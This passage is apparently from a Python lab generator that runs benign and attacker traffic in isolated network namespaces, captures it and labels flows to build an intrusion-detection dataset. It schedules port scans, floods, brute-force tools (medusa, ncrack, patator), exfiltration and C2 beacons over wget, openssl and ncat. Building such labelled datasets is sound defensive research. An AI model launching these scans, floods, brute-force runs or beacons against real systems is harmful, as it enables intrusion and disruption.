                self.act("c2", tool, f"{tool}-tls-checkin", role, ["c2srv"], cmd, 12, stdin_data=req)
            if not self.sleep(interval * (1 + r.uniform(-jitter, jitter))):
                return

    # ---------------------------------------------------------------- run
    def guard(self, fn, *args):
        try:
            fn(*args)
        except Exception as e:  # noqa: BLE001 -- an attacker must not kill the run
            self.errors[f"{getattr(fn, '__name__', fn)}{args}: {type(e).__name__}: {e}"] += 1

    def workers(self) -> list[threading.Thread]:
        threads = []
        for c in self.clients:
            for k in range(2):
                threads.append(threading.Thread(target=self.benign_loop, name=f"{c}-{k}", args=(c, self.BENIGN_KINDS)))
        jobs = [("masscan", self.scan_masscan), ("sweep", self.scan_sweep), ("flood", self.dos_nping),
                ("scapy", self.dos_scapy), ("httpflood", self.dos_http), ("medusa", self.brute_tool, "medusa"),
                ("ncrack", self.brute_tool, "ncrack"), ("patator", self.brute_tool, "patator"),
                ("exfil", self.exfil), ("bwget", self.beacon, "bwget", "wget"),
                ("burllib", self.beacon, "burllib", "urllib"), ("bossl", self.beacon, "bossl", "openssl"),
                ("bncat", self.beacon, "bncat", "ncat")]
        for name, fn, *args in jobs:
            threads.append(threading.Thread(target=self.guard, name=name, args=(fn, *args)))
        return threads

    def meta(self, t_start, t_stop) -> dict:
        m = super().meta(t_start, t_stop)
        del m["tunnel_domain"]
        m.update({"scenario": "heldout", "dns2tcp_domain": self.d2t_domain, "pydns_domain": self.py_domain,
                  "macs": self.mac})
        return m


# --------------------------------------------------------------------------- labelling

V6_EXT = {0, 43, 60}   # hop-by-hop (MLD's router alert), routing, destination options


def read_pcap(path):
    """Yield (ts, proto, src, sport, dst, dport, tcp_flags, icmp_type, icmp_code, echo_id) for IPv4/IPv6."""
    # A capture cut inside its last packet (tcpdump stopped) still gives that packet's bytes.
    for pkt in pcapio.read_packets(path, partial_last=True):
        if pkt.linktype != 1:
            raise ValueError(f"{path}: link type {pkt.linktype}, expected Ethernet")
        data = pkt.data
        ts = pkt.ts
        if len(data) < 34:
            continue
        et = (data[12] << 8) | data[13]
        off = 14
        while et == 0x8100 and len(data) >= off + 4:
            et = (data[off + 2] << 8) | data[off + 3]
            off += 4
        if et == 0x86DD and len(data) >= off + 40:
            proto = data[off + 6]
            src = socket.inet_ntop(socket.AF_INET6, data[off + 8:off + 24])
            dst = socket.inet_ntop(socket.AF_INET6, data[off + 24:off + 40])
            t = off + 40
            while proto in V6_EXT and len(data) >= t + 8:
                proto, t = data[t], t + (data[t + 1] + 1) * 8
            if proto == 44 and len(data) >= t + 8:   # fragment: only the first has ports
                if struct.unpack("!H", data[t + 2:t + 4])[0] & 0xFFF8:
                    continue
                proto, t = data[t], t + 8
        elif et == 0x0800:
            ihl = (data[off] & 0x0F) * 4
            proto = data[off + 9]
            src = socket.inet_ntoa(data[off + 12:off + 16])
            dst = socket.inet_ntoa(data[off + 16:off + 20])
            frag = ((data[off + 6] & 0x1F) << 8) | data[off + 7]
            t = off + ihl
            if frag:
                continue
        else:
            continue
        if proto in (6, 17) and len(data) >= t + 4:
            sport, dport = struct.unpack("!HH", data[t:t + 4])
            flags = data[t + 13] if proto == 6 and len(data) > t + 13 else 0
            yield ts, proto, src, sport, dst, dport, flags, 0, 0, None
        elif proto == 1 and len(data) >= t + 8:
            typ, code = data[t], data[t + 1]
            eid = struct.unpack("!H", data[t + 4:t + 6])[0] if typ in (0, 8, 13, 14) else None
            yield ts, proto, src, typ, dst, code, 0, typ, code, eid
        elif proto == 58 and len(data) >= t + 8:
            typ, code = data[t], data[t + 1]
            eid = struct.unpack("!H", data[t + 4:t + 6])[0] if typ in (128, 129) else None
            yield ts, proto, src, typ, dst, code, 0, typ, code, eid
        elif proto == 2:
            # IGMP (multicast joins): a flow without ports, as the engine keys it.
            yield ts, proto, src, 0, dst, 0, 0, 0, 0, None


PROTO_NAME = {6: "tcp", 17: "udp", 1: "icmp", 58: "icmpv6", 2: "igmp"}   # the engine's names
SPLIT_GAP_S = 30.0


def flows_of(pcap):
    """Group packets into flows the way the engine keys them. Returns a list of dicts."""
    open_flows = {}
    done = []
    for ts, proto, src, sp, dst, dp, flags, typ, code, eid in read_pcap(pcap):
        key = flowkey.flow_key(proto, src, sp, dst, dp, echo_id=eid)   # for ICMP, sp/dp are type/code
        f = open_flows.get(key)
        pure_syn = proto == 6 and (flags & 0x12) == 0x02
        if f is not None and (ts - f["last"] > SPLIT_GAP_S or (pure_syn and f["closed"])):
            done.append(f)
            f = None
        if f is None:
            f = {"proto": proto, "first": ts, "last": ts, "src": src, "dst": dst,
                 "sport": sp, "dport": dp, "packets": 0, "closed": False}
            open_flows[key] = f
        f["last"] = ts
        f["packets"] += 1
        if proto == 6 and flags & 0x05:
            f["closed"] = True
    done.extend(open_flows.values())
    done.sort(key=lambda f: f["first"])
    return done


SLACK_S = 1.0


def action_covers(a, f, peer):
    """Peer among the action's targets ("ff02::*" is a prefix), within its protocol/ICMP-type filter."""
    if "protos" in a and PROTO_NAME[f["proto"]] not in a["protos"]:
        return False
    if "icmp_types" in a and f["proto"] in (1, 58) and f["sport"] not in a["icmp_types"]:
        return False
    return peer in a["targets"] or any(t.endswith("*") and peer.startswith(t[:-1]) for t in a["targets"])


def label_flows(flows, actions):
    by_host = collections.defaultdict(list)
    for a in actions:
        # An action may own more addresses of its host (IPv6, the DHCP client's 0.0.0.0).
        for src in {a["src"], *a.get("srcs", ())}:
            by_host[src].append(a)
    for v in by_host.values():
        v.sort(key=lambda a: a["t0"])
    stats = collections.Counter()
    for f in flows:
        cands = []
        for me, peer in ((f["src"], f["dst"]), (f["dst"], f["src"])):
            for a in by_host.get(me, ()):
                if a["t0"] - SLACK_S <= f["first"] <= a["t1"] + SLACK_S and action_covers(a, f, peer):
                    cands.append(a)
        labels = {a["label"] for a in cands}
        if len(labels) == 1:
            # The closest action in time names the tool.
            a = min(cands, key=lambda a: 0 if a["t0"] <= f["first"] <= a["t1"] else
                    min(abs(f["first"] - a["t0"]), abs(f["first"] - a["t1"])))
            f["label"], f["tool"], f["variant"], f["action"] = a["label"], a["tool"], a["variant"], a["id"]
            stats[a["label"]] += 1
        else:
            f["label"] = ""
            f["tool"] = f["variant"] = ""
            f["action"] = -1
            stats["unlabelled-ambiguous" if labels else "unlabelled-no-action"] += 1
    return stats


def write_labels(stem, flows):
    with open(stem + ".labels.csv", "w", newline="") as fl, open(stem + ".flows.csv", "w", newline="") as ff:
        wl, wf = csv.writer(fl), csv.writer(ff)
        head = ["first_ts", "last_ts", "proto", "src_ip", "src_port", "dst_ip", "dst_port", "label"]
        wl.writerow(head)
        wf.writerow(head + ["tool", "variant", "action", "packets"])
        for f in flows:
            row = [f"{f['first']:.6f}", f"{f['last']:.6f}", PROTO_NAME[f["proto"]], f["src"], f["sport"],
                   f["dst"], f["dport"], f["label"]]
            if f["label"]:
                wl.writerow(row)
            wf.writerow(row + [f["tool"], f["variant"], f["action"], f["packets"]])


def label_cmd(pcap, actions_path, stem, meta=None):
    actions = [json.loads(x) for x in open(actions_path)]
    flows = flows_of(pcap)
    stats = label_flows(flows, actions)
    write_labels(stem, flows)
    per_variant = collections.Counter((f["label"], f["variant"]) for f in flows if f["label"])
    summary = dict(meta or {})
    summary.update({
        "pcap": os.path.basename(pcap), "pcap_bytes": os.path.getsize(pcap),
        "flows": len(flows), "flows_by_label": dict(stats),
        "packets": sum(f["packets"] for f in flows),
        "flows_by_variant": {f"{lab}/{v}": n for (lab, v), n in sorted(per_variant.items())},
        "flows_by_tool_variant": {f"{t}/{v}": n for (t, v), n in sorted(collections.Counter(
            (f["tool"], f["variant"]) for f in flows if f["label"]).items())},   # variants alone can clash
        "actions": len(actions),
    })
    with open(stem + ".summary.json", "w") as f:
        json.dump(summary, f, indent=2, sort_keys=True)
        f.write("\n")
    log(f"labelled {len(flows)} flows: {dict(stats)}")
    return summary


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("run", help="build the lab, run it, capture and label (root)")
    r.add_argument("--seed", type=int, required=True)
    r.add_argument("--out", default="build/lab")
    r.add_argument("--duration", type=float, default=170.0, help="seconds of activity (default 170)")
    r.add_argument("--prefix", default=None, help="namespace name prefix (default tw<seed>x<pid>-)")
    r.add_argument("--scenario", choices=["attack", "everyday", "heldout"], default="attack",
                   help="attack: benign clients and attackers (default); everyday: benign only, everyday tools; "
                        "heldout: the attack classes made by other tools than attack's")
    l_ = sub.add_parser("label", help="(re)label a capture from its action log")
    l_.add_argument("--pcap", required=True)
    l_.add_argument("--actions", required=True)
    l_.add_argument("--out-stem", required=True)
    args = ap.parse_args()
    if args.cmd == "label":
        label_cmd(args.pcap, args.actions, args.out_stem)
        return 0
    if os.geteuid() != 0:
        print("lab.py run: needs root (network namespaces, tcpdump)", file=sys.stderr)
        return 2
    tag = {"attack": "", "everyday": "e", "heldout": "h"}[args.scenario]
    prefix = args.prefix or f"tw{tag}{args.seed}x{os.getpid() % 10000}-"
    lab = {"attack": Lab, "everyday": Everyday, "heldout": Heldout}[args.scenario](args.seed, args.out, args.duration,
                                                                                    prefix)
    for s in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(s, lambda *_: (_ for _ in ()).throw(KeyboardInterrupt()))
    try:
        pcap, meta = lab.go()
    finally:
        lab.cleanup()
    label_cmd(pcap, lab.stem + ".actions.jsonl", lab.stem, meta)
    return 0


if __name__ == "__main__":
    sys.exit(main())
